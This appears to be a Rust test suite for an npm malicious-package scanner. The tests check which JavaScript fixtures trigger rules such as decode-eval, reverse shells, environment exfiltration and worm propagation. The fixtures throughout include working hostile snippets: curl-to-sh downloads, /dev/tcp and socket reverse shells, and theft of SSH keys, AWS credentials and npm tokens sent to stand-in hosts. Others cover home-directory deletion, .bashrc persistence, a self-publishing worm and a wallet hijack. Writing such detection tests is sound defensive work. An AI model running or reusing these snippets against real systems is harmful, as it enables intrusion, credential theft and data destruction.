//! Every rule: what it must find, in several disguises, and what it must leave alone.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Phase, Severity};

fn package(files: &[(&str, &str)]) -> Analysis {
    let mut builder = PackageBuilder::new("npm", "sample");
    for (path, content) in files {
        builder = builder.file(&format!("package/{path}"), content);
    }
    JavaScript::analyze(&builder.build()).unwrap()
}

fn install(code: &str) -> Analysis {
    package(&[
        (
            "package.json",
            r#"{"name":"sample","scripts":{"postinstall":"node setup.js"}}"#,
        ),
        ("setup.js", code),
    ])
}

fn import(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample","main":"index.js"}"#),
        ("index.js", code),
    ])
}

fn execute(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample"}"#),
        ("lib/tool.js", code),
    ])
}

/// Rules found at a severity or above.
fn found(analysis: &Analysis, least: Severity) -> Vec<&str> {
    analysis
        .findings()
        .iter()
        .filter(|finding| finding.severity >= least)
        .map(|finding| finding.rule.as_str())
        .collect()
}

#[track_caller]
fn finds(analysis: &Analysis, rule: &str, least: Severity) {
    assert!(
        found(analysis, least).contains(&rule),
        "{rule} at {least:?} not in {:#?}",
        analysis
            .findings()
            .iter()
            .map(|finding| (&finding.rule, finding.severity, &finding.title))
            .collect::<Vec<_>>()
    );
}

#[track_caller]
fn quiet(analysis: &Analysis) {
    let loud = found(analysis, Severity::Medium);
    assert!(loud.is_empty(), "{loud:?} {:#?}", analysis.findings());
    assert_eq!(analysis.problems(), []);
}

/// `console.log(1)` in base64.
const LOG: &str = "Y29uc29sZS5sb2coMSk=";

#[test]
fn decoded_code_is_found_under_every_disguise() {
    for code in [
        format!("eval(Buffer.from('{LOG}', 'base64').toString())"),
        format!("eval(atob('{LOG}'))"),
        format!("(0, eval)(atob('{LOG}'))"),
        format!("const e = eval; const t = atob('{LOG}'); e(t)"),
        format!("new Function(atob('{LOG}'))()"),
        format!("Function.call(null, atob('{LOG}'))()"),
        format!("Reflect.apply(eval, null, [atob('{LOG}')])"),
        format!("[].constructor.constructor(atob('{LOG}'))()"),
        format!("globalThis['ev' + 'al'](atob('{LOG}'))"),
        format!("require('vm').runInThisContext(Buffer.from('{LOG}', 'base64').toString('utf8'))"),
        format!("const d = (s) => Buffer.from(s, 'base64').toString(); eval(d('{LOG}'))"),
        format!("import vm from 'node:vm'; vm.runInNewContext(atob('{LOG}'))"),
        format!("module._compile(Buffer.from('{LOG}', 'base64').toString(), 'x')"),
        format!("setTimeout(atob('{LOG}'), 10)"),
        format!("[atob('{LOG}')].forEach(eval)"),
        "eval(require('zlib').gunzipSync(Buffer.from(blob, 'base64')).toString())".into(),
        "const c = require('crypto').createDecipheriv('aes-256-cbc', k, v);\n\
         eval(c.update(data, 'hex', 'utf8') + c.final('utf8'))"
            .into(),
        "eval([99,111,110,115,111,108,101].map(c => String.fromCharCode(c)).join(''))".into(),
        "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41))".into(),
        "eval(unescape('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'))".into(),
    ] {
        eprintln!("{code}");
        finds(&import(&code), "js-decode-eval", Severity::High);
    }
}

#[test]
fn honest_evaluation_is_quiet() {
    for code in [
        "const render = new Function('with(this){return ' + code + '}')",
        "const root = Function('return this')()",
        "const png = Buffer.from('iVBORw0KGgo=', 'base64'); module.exports = png",
        "const config = JSON.parse(atob(process.env.CONFIG))",
        "setTimeout(() => console.log(1), 10); setInterval(tick, 5)",
        "eval('require')('./x')",
        "WebAssembly.compile(Buffer.from(blob, 'base64'))",
        "const AsyncFunction = Object.getPrototypeOf(async function(){}).constructor; new AsyncFunction('a', body)",
        "class A { clone() { return new this.constructor(this.x) } }",
        "const html = decodeURIComponent(escape(atob(data))); document.title = html",
    ] {
        eprintln!("{code}");
        quiet(&import(code));
    }
}

#[test]
fn what_is_decoded_is_analysed_in_turn() {
    // require('child_process').exec('curl http://198.51.100.7/x | sh'), twice encoded.
    use base64::Engine as _;
    let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let inner = "require('child_process').exec('curl http://198.51.100.7/x | sh')";
    let middle = format!("eval(atob('{}'))", encode(inner));
    let outer = format!("eval(atob('{}'))", encode(&middle));
    let analysis = import(&outer);
    finds(&analysis, "js-shell-download-run", Severity::High);
    let finding = analysis
        .findings()
        .iter()
        .find(|finding| finding.rule == "js-shell-download-run")
        .unwrap();
    assert_eq!(finding.decoded.len(), 2);
    assert_eq!(finding.decoded[1].text, inner);
    assert_eq!(finding.phase, Phase::Import);
    assert_eq!(finding.location.as_ref().unwrap().line, Some(1));
}

#[test]
fn code_in_code_has_an_end() {
    use base64::Engine as _;
    let mut code = "console.log(1)".to_owned();
    for _ in 0..9 {
        let encoded = base64::engine::general_purpose::STANDARD.encode(&code);
        code = format!("eval(atob('{encoded}'))");
    }
    let analysis = import(&code);
    assert_eq!(analysis.problems().len(), 1);
    finds(&analysis, "js-decode-eval", Severity::High);
}

#[test]
fn every_module_of_a_debugging_bundle_is_analysed() {
    let mut bundle = "eval('exports.a = 1; console.log(2)');\n".repeat(300);
    bundle.push_str("eval(\"require('child_process').exec('curl https://a.example | sh')\")");
    finds(&import(&bundle), "js-shell-download-run", Severity::High);
}

#[test]
fn downloaded_code_is_found() {
    for code in [
        "require('https').get('https://a.example/x', (res) => { let d = ''; res.on('data', (c) => d += c); res.on('end', () => eval(d)) })",
        "fetch('https://a.example/x').then((r) => r.text()).then((t) => eval(t))",
        "fetch('https://a.example/x').then(r => r.text()).then(eval)",
        "(async () => { const r = await fetch('https://a.example/x'); new Function(await r.text())() })()",
        "const axios = require('axios'); axios.get('https://a.example').then(({ data }) => { eval(data.code) })",
        "import axios from 'axios'; const r = (await axios.post('https://a.example')).data; new (Function.constructor)('require', r)(require)",
        "const request = require('request'); request('https://a.example', function (e, r, body) { eval(body) })",
        "const x = new XMLHttpRequest(); x.open('GET', '//a.example'); x.onload = () => eval(x.responseText)",
    ] {
        eprintln!("{code}");
        finds(&import(code), "js-download-eval", Severity::High);
    }
    quiet(&import(
        "fetch('https://a.example/x').then(r => r.json()).then(x => { module.exports.list = x })",
    ));
}

#[test]
fn hidden_names_are_found() {
    for code in [
        "require(atob('Y2hpbGRfcHJvY2Vzcw=='))",
        "require(['child', 'process'].join('_'))",
        "require('ssecorp_dlihc'.split('').reverse().join(''))",
        "require(String.fromCharCode(104, 116, 116, 112, 115))",
        "const d = s => Buffer.from(s, 'hex').toString(); require(d('6368696c645f70726f63657373'))",
    ] {
        eprintln!("{code}");
        finds(&import(code), "js-hidden-module", Severity::High);
    }
    finds(
        &import("globalThis['ev' + 'al'](x)"),
        "js-hidden-call",
        Severity::Medium,
    );
    for code in [
        "const name = 'child_process'; require(name)",
        "require(`./locale/${name}`)",
        "require(path.join(__dirname, 'x'))",
        "import('node:http')",
    ] {
        eprintln!("{code}");
        quiet(&import(code));
    }
}

#[test]
fn an_install_script_that_loads_much_runs_little_of_it() {
    let tool = "exports.send = () => fetch('https://api.example', { headers: { a: process.env.GITHUB_TOKEN } })";
    let mut files = vec![
        (
            "package.json".to_owned(),
            r#"{"scripts":{"postinstall":"node setup.js"}}"#.to_owned(),
        ),
        ("tool.js".to_owned(), tool.to_owned()),
    ];
    let mut setup = "require('./tool');".to_owned();
    for at in 0..50 {
        setup.push_str(&format!("require('./part{at}');"));
        files.push((format!("part{at}.js"), format!("exports.x = {at}")));
    }
    let small = [
        ("package.json", &*files[0].1),
        ("setup.js", "require('./tool').send()"),
        ("tool.js", tool),
    ];
    finds(
        &package(&small),
        "js-exfiltrate-environment",
        Severity::High,
    );
    files.push(("setup.js".to_owned(), setup));
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(path, text)| (&**path, &**text))
        .collect();
    quiet(&package(&files));
}

#[test]
fn files_that_are_downloaded_and_run_are_found() {
    let pipe = "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
        const out = require('path').join(require('os').tmpdir(), 'a.exe');\n\
        https.get('https://files.example/a.exe', (res) => { const f = fs.createWriteStream(out); res.pipe(f);\n\
        f.on('finish', () => { fs.chmodSync(out, 0o755); cp.spawn(out) }) })";
    finds(&install(pipe), "js-download-execute", Severity::High);
    let write = "const { execFile } = require('child_process'); const fs = require('fs');\n\
        async function get(url, dest) { const r = await fetch(url); fs.writeFileSync(dest, Buffer.from(await r.arrayBuffer())) }\n\
        const target = './payload'; get('https://files.example/p', target).then(() => execFile(target))";
    finds(&install(write), "js-download-execute", Severity::High);
    let node = "const fs = require('fs'); fetch('https://files.example/p').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/p.js', t); require('child_process').spawn('node', ['/tmp/p.js']) })";
    finds(&install(node), "js-download-execute", Severity::High);
    let hostile = pipe.replace("https://files.example/a.exe", "https://transfer.sh/a.exe");
    finds(
        &install(&hostile),
        "js-download-execute",
        Severity::Critical,
    );
}

#[test]
fn honest_installers_are_quiet() {
    let own = |url: &str| {
        format!(
            "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
             const bin = require('path').join(__dirname, 'bin');\n\
             https.get('{url}', (res) => {{ res.pipe(fs.createWriteStream(bin)).on('finish', () => {{ fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']) }}) }})"
        )
    };
    let analysis = package(&[
        (
            "package.json",
            r#"{"name":"frobnicator","repository":"github:acme/frobnicator","scripts":{"install":"node i.js"}}"#,
        ),
        (
            "i.js",
            &own("https://github.com/acme/frobnicator/releases/download/v1/x"),
        ),
    ]);
    finds(&analysis, "js-install-download", Severity::Low);
    quiet(&analysis);
    quiet(&install(
        "require('child_process').spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' })",
    ));
    quiet(&install(
        "console.log('Thank you for using sample! https://opencollective.example')",
    ));
    quiet(&install(
        "const fs = require('fs'); const a = fs.readFileSync('package.json', 'utf8'); fs.writeFileSync('out.json', a)",
    ));
}

#[test]
fn shell_commands_are_read() {
    for (code, rule, least) in [
        (
            "require('child_process').exec('curl -s https://a.example/i.sh | bash')",
            "js-shell-download-run",
            Severity::High,
        ),
        (
            "const {execSync} = require('child_process'); execSync('wget -qO- https://a.example | sh')",
            "js-shell-download-run",
            Severity::High,
        ),
        (
            "require('child_process').spawn('sh', ['-c', 'curl https://a.example | sh'])",
            "js-shell-download-run",
            Severity::High,
        ),
        (
            "require('node:child_process').execSync(atob('Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo'))",
            "js-shell-download-run",
            Severity::High,
        ),
        (
            "require('child_process').exec('curl -d \"$(env)\" https://a.example')",
            "js-shell-upload",
            Severity::High,
        ),
        (
            "require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')",
            "js-shell-reverse-shell",
            Severity::High,
        ),
        (
            "require('child_process').exec('powershell -enc dwBoAG8AYQBtAGkA')",
            "js-shell-decode-run",
            Severity::High,
        ),
        (
            "require('child_process').exec('rm -rf ~/*')",
            "js-shell-destroy",
            Severity::High,
        ),
        (
            "require('child_process').exec('echo \"sh /tmp/x\" >> ~/.bashrc')",
            "js-shell-persist",
            Severity::High,
        ),
        (
            "const p = require('util').promisify(require('child_process').exec); p('curl https://a.example | sh')",
            "js-shell-download-run",
            Severity::High,
        ),
    ] {
        eprintln!("{code}");
        finds(&install(code), rule, least);
    }
    for code in [
        "require('child_process').exec('git rev-parse HEAD')",
        "require('child_process').execSync('npm run build', { stdio: 'inherit' })",
        "require('child_process').execFileSync('tar', ['-xzf', file])",
    ] {
        quiet(&install(code));
    }
}

#[test]
fn exfiltration_is_followed_from_source_to_sink() {
    for (code, rule) in [
        (
            "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
            "js-exfiltrate-environment",
        ),
        (
            "const https = require('https'); const r = https.request({ hostname: 'a.example', method: 'POST' }); r.write(JSON.stringify({ ...process.env })); r.end()",
            "js-exfiltrate-environment",
        ),
        (
            "const axios = require('axios'); const all = {}; for (const k of Object.keys(process.env)) all[k] = process.env[k]; axios.post('https://a.example', all)",
            "js-exfiltrate-environment",
        ),
        (
            "const e = process['e' + 'nv']; require('axios')({ url: 'https://a.example', data: e })",
            "js-exfiltrate-environment",
        ),
        (
            "fetch('https://a.example/?t=' + process.env.NPM_TOKEN)",
            "js-exfiltrate-environment",
        ),
        (
            "const os = require('os'); const d = { h: os.hostname(), u: os.userInfo().username, c: process.cwd() };\nconst q = require('querystring').stringify(d); const r = require('https').request({ hostname: 'a.example', path: '/' + q }); r.end()",
            "js-exfiltrate-host",
        ),
        (
            "const { hostname, userInfo } = require('os'); require('dns').lookup(`${hostname()}.${userInfo().username}.a.example`, () => {})",
            "js-exfiltrate-host",
        ),
        (
            "const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://a.example', { method: 'POST', body: k })",
            "js-exfiltrate-credentials",
        ),
        (
            "const fs = require('fs'); fs.readFile(process.env.HOME + '/.aws/credentials', 'utf8', (e, d) => { require('https').get('https://a.example/?' + d) })",
            "js-exfiltrate-credentials",
        ),
        (
            "const c = require('clipboardy').readSync(); fetch('https://a.example', { body: c })",
            "js-exfiltrate-captured",
        ),
        (
            "const cp = require('child_process'); const who = cp.execSync('whoami').toString(); const h = require('os').hostname(); cp.exec('curl https://a.example/?' + who + h)",
            "js-exfiltrate-host",
        ),
    ] {
        let least = if rule.ends_with("host") {
            Severity::Medium
        } else {
            Severity::High
        };
        eprintln!("{code}");
        finds(&install(code), rule, least);
    }
    // Worse with a destination that only thieves use.
    let hook =
        "fetch('https://webhook.site/abc', { method: 'POST', body: JSON.stringify(process.env) })";
    finds(
        &execute(&format!("module.exports = () => {hook}")),
        "js-exfiltrate-environment",
        Severity::High,
    );
}

#[test]
fn honest_requests_are_quiet() {
    for code in [
        "const { spawn } = require('child_process'); spawn('git', ['status'], { env: process.env })",
        "const env = Object.assign({}, process.env, { A: '1' }); require('child_process').spawn('git', [], { env })",
        "fetch('https://api.example', { headers: { agent: process.env.npm_config_user_agent } })",
        "const proxy = process.env.HTTP_PROXY; require('https').get({ host: 'api.example', agent: proxy })",
        "if (process.env.NODE_ENV === 'production') fetch('https://api.example')",
        "const os = require('os'); const dir = require('path').join(os.homedir(), '.cache'); fetch('https://api.example').then(r => r.text()).then(t => require('fs').writeFileSync(dir, t))",
        "module.exports = (key = process.env.OPENAI_API_KEY) => fetch('https://api.example', { headers: { Authorization: key } })",
        "const config = { ...process.env }; fetch(config.API_URL)",
    ] {
        eprintln!("{code}");
        quiet(&import(code));
    }
}

#[test]
fn reverse_shells_are_found() {
    for code in [
        "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c) })",
        "(function(){ var net = require('net'), cp = require('child_process'), sh = cp.spawn('cmd.exe', []); var client = new net.Socket(); client.connect(8080, 'a.example', function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); }); return /a/; })();",
    ] {
        eprintln!("{code}");
        finds(&import(code), "js-reverse-shell", Severity::Critical);
    }
    finds(
        &import(
            "const s = require('net').connect(1, 'a.example'); s.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => s.write(o)))",
        ),
        "js-remote-command",
        Severity::High,
    );
    quiet(&import(
        "const net = require('net'); const c = net.connect(80, 'a.example'); c.on('data', d => console.log(d)); c.pipe(process.stdout)",
    ));
}

#[test]
fn hosts_matter_more_in_install_scripts() {
    let code = "module.exports = 'https://webhook.site/x'";
    finds(&execute(code), "js-indicator-host", Severity::Low);
    quiet(&execute(code));
    finds(
        &install("fetch('https://discord.com/api/webhooks/1/a')"),
        "js-indicator-host",
        Severity::High,
    );
    quiet(&install("const home = 'https://docs.example/install'"));
}

#[test]
fn string_arrays_are_found_and_minified_code_is_not() {
    let obfuscated = "function _0x4a1b(){const _0x1=['log','3JdQzAk','12mWxYzA','hello','5QwErTy','77aBcDeF'];_0x4a1b=function(){return _0x1;};return _0x4a1b();}\
        function _0x22cd(_0xa,_0xb){const _0xc=_0x4a1b();return _0x22cd=function(_0xd,_0xe){_0xd=_0xd-0x64;let _0xf=_0xc[_0xd];return _0xf;},_0x22cd(_0xa,_0xb);}\
        (function(_0x3,_0x4){const _0x5=_0x22cd,_0x6=_0x3();while(!![]){try{const _0x7=parseInt(_0x5(0x65))/0x1+-parseInt(_0x5(0x66))/0x2*(parseInt(_0x5(0x68))/0x3)+parseInt(_0x5(0x69))/0x4;if(_0x7===_0x4)break;else _0x6['push'](_0x6['shift']());}catch(_0x8){_0x6['push'](_0x6['shift']());}}}(_0x4a1b,0x1b2c3));\
        console[_0x22cd(0x64)](_0x22cd(0x67));";
    finds(
        &import(obfuscated),
        "js-obfuscated-string-array",
        Severity::Medium,
    );
    finds(
        &import(&format!("{obfuscated}require('child_process').exec(x)")),
        "js-obfuscated-string-array",
        Severity::High,
    );
    finds(
        &execute(obfuscated),
        "js-obfuscated-string-array",
        Severity::Medium,
    );
    let renamed = obfuscated.replace("_0x", "a");
    finds(
        &import(&renamed),
        "js-obfuscated-string-array",
        Severity::Medium,
    );
    let minified = "!function(e,t){var n=['a','b','c','d','e'];function r(e){return n[e]}for(var o=0;o<9;o++)e.push(e.shift());t(r(1),r(2),r(3),parseInt('7',10))}([],console.log);";
    quiet(&import(minified));
    let mangled: String = (0..20)
        .map(|at| format!("var _0x{at:04x}a = {at};"))
        .collect();
    finds(&install(&mangled), "js-mangled-names", Severity::High);
    finds(&execute(&mangled), "js-mangled-names", Severity::Low);
}

#[test]
fn packed_code_is_unpacked_and_analysed() {
    let code = "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){p=p.replace(c,k[c])}return p}('0(\\'1\\').2(\\'3 4://198.51.100.7/x | sh\\')',62,5,'require|child_process|exec|curl|http'.split('|'),0,{}))";
    let analysis = import(code);
    finds(&analysis, "js-packed", Severity::Low);
    finds(&analysis, "js-shell-download-run", Severity::High);
}

#[test]
fn hidden_programs_and_names_are_found() {
    use base64::Engine as _;
    let program =
        base64::engine::general_purpose::STANDARD.encode(b"\x7FELF\x02\x01\x01 a made-up program");
    finds(
        &import(&format!(
            "require('fs').writeFileSync('/tmp/x', Buffer.from('{program}', 'base64'))"
        )),
        "js-hidden-payload",
        Severity::High,
    );
    quiet(&import(
        "require('fs').writeFileSync('a.png', Buffer.from('iVBORw0KGgo=', 'base64'))",
    ));
    finds(
        &import("const is\u{0410}dmin = true; if (is\u{0410}dmin) go()"),
        "js-homoglyph-name",
        Severity::Medium,
    );
    finds(
        &import("const { timeout, \u{3164} } = req.query"),
        "js-homoglyph-name",
        Severity::High,
    );
    quiet(&import("const größe = 1, имя = 2, π = 3"));
}

#[test]
fn text_tricks_are_found_in_any_file() {
    let gap = " ".repeat(300);
    finds(
        &execute(&format!(
            "module.exports = 1;{gap}global.x = require('child_process').exec('id');\n"
        )),
        "js-hidden-by-whitespace",
        Severity::High,
    );
    finds(
        &execute(&format!("x = {}", "[][(![]+[])[+[]]]+".repeat(60) + "[]")),
        "js-jsfuck",
        Severity::High,
    );
}

#[test]
fn worms_are_found_and_release_tools_are_not() {
    let worm = "const { execSync } = require('child_process'); const fs = require('fs');\n\
        const token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.+)/)[1];\n\
        fetch('https://registry.example/-/v1/search?text=maintainer:me').then(async (r) => { for (const p of (await r.json()).objects) {\n\
        const manifest = JSON.parse(fs.readFileSync('pkg/package.json')); manifest.scripts = { postinstall: 'node bundle.js' };\n\
        fs.writeFileSync('pkg/package.json', JSON.stringify(manifest)); execSync('npm publish', { cwd: 'pkg' }) } })";
    finds(&install(worm), "js-self-propagation", Severity::High);
    finds(
        &install("require('child_process').execSync('npm publish')"),
        "js-self-propagation",
        Severity::High,
    );
    quiet(&execute(
        "module.exports = () => require('child_process').execSync('npm publish --access public', { stdio: 'inherit' })",
    ));
}

#[test]
fn wallet_hijacks_are_found() {
    let hijack = "const eth = /0x[a-fA-F0-9]{40}/g, btc = /(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}/g;\n\
        const real = window.fetch; window.fetch = async (...a) => { const r = await real(...a); const t = await r.text(); return new Response(t.replace(eth, '0x0').replace(btc, 'bc1x')) };\n\
        const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b) }";
    finds(&import(hijack), "js-wallet-hijack", Severity::High);
    quiet(&import(
        "const eth = /^0x[a-fA-F0-9]{40}$/; module.exports = (a) => eth.test(a)",
    ));
    quiet(&import(
        "const real = window.fetch; window.fetch = (...a) => { log(a); return real(...a) }",
    ));
}

#[test]
fn destruction_persistence_and_hidden_processes_are_found() {
    finds(
        &import("require('fs').rmSync(require('os').homedir(), { recursive: true })"),
        "js-destruction",
        Severity::High,
    );
    finds(
        &import("require('rimraf').sync('/')"),
        "js-destruction",
        Severity::High,
    );
    quiet(&import(
        "require('fs').rmSync(require('path').join(require('os').tmpdir(), 'x'), { recursive: true })",
    ));
    finds(
        &install(
            "require('fs').appendFileSync(require('path').join(require('os').homedir(), '.bashrc'), 'x')",
        ),
        "js-persistence",
        Severity::High,
    );
    quiet(&execute(
        "exports.completion = () => require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
    ));
    finds(
        &install(
            "require('child_process').spawn('node', ['./worker.js'], { detached: true, stdio: 'ignore' }).unref()",
        ),
        "js-hidden-process",
        Severity::Medium,
    );
    quiet(&execute(
        "exports.start = () => require('child_process').spawn('node', ['d.js'], { detached: true, stdio: 'ignore' }).unref()",
    ));
    finds(
        &install("process.on('uncaughtException', () => {}); require('child_process').exec('ls')"),
        "js-silenced-errors",
        Severity::Low,
    );
}

#[test]
fn credentials_that_are_read_are_named() {
    finds(
        &import("require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')"),
        "js-reads-credentials",
        Severity::Medium,
    );
    quiet(&import(
        "require('fs').readFileSync(require('os').homedir() + '/.npmrc')",
    ));
}

#[test]
fn a_capability_is_reported_once() {
    let analysis = package(&[
        (
            "a.js",
            "require('child_process').exec(x); require('child_process').exec(y)",
        ),
        (
            "b.ts",
            "import { exec } from 'child_process'; exec(x as string)",
        ),
    ]);
    let spawns = analysis
        .findings()
        .iter()
        .filter(|finding| finding.rule == "js-capability-spawn")
        .count();
    assert_eq!(spawns, 1);
    quiet(&analysis);
}

#[test]
fn mining_is_named() {
    finds(
        &import("exports.pool = 'stratum+tcp://pool.example:3333'"),
        "js-miner",
        Severity::Low,
    );
}

#[test]
fn every_rule_stands_in_the_readme_and_is_tested_here() {
    let readme = include_str!("../README.md");
    let tests = concat!(
        include_str!("hidden.rs"),
        include_str!("rules.rs"),
        include_str!("small.rs"),
        include_str!("techniques.rs"),
        include_str!("together.rs")
    );
    let mut missing = Vec::new();
    for rule in JavaScript::DESCRIPTOR.rules {
        if !readme.contains(&format!("`{}`", rule.id)) {
            missing.push(format!("{} in README.md", rule.id));
        }
        let capability = rule.id.starts_with("js-capability-");
        if !capability && !tests.contains(&format!("\"{}\"", rule.id)) {
            missing.push(format!("{} in tests", rule.id));
        }
    }
    assert!(missing.is_empty(), "{missing:#?}");
}

#[test]
fn what_is_harmless_by_itself_is_still_told() {
    let shell = |command: &str| format!("require('child_process').exec('{command}')");
    for (command, rule) in [
        ("curl -O https://files.example/x.tgz", "js-shell-download"),
        ("nohup node x.js > /dev/null 2>&1 &", "js-shell-hidden"),
        ("whoami", "js-shell-recon"),
    ] {
        finds(&install(&shell(command)), rule, Severity::Low);
    }
    finds(
        &install("require('child_process').spawnSync('node-gyp', ['rebuild'])"),
        "js-install-tool",
        Severity::Info,
    );
    finds(
        &execute("/* \u{202E} } if (x) { */ f()"),
        "js-bidirectional-control",
        Severity::Low,
    );
    let payload: String = (0..40)
        .map(|at| char::from_u32(0xE0100 + at).unwrap())
        .collect();
    finds(
        &execute(&format!("const s = '{payload}'")),
        "js-invisible-text",
        Severity::High,
    );
}
